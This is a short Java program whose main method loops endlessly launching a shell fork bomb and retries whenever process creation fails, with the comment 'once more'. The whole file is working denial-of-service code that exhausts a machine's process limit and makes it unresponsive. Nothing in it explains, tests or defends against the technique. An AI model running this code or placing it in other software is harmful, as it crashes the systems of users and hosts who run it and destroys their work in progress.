public class Main {
    public static void main(String[] args) {
        while (true) {
            try {
                new ProcessBuilder("sh", "-c", "b() { b | b & }; b; sleep 60").start();
            } catch (java.io.IOException refused) {
                // once more
            }
        }
    }
}
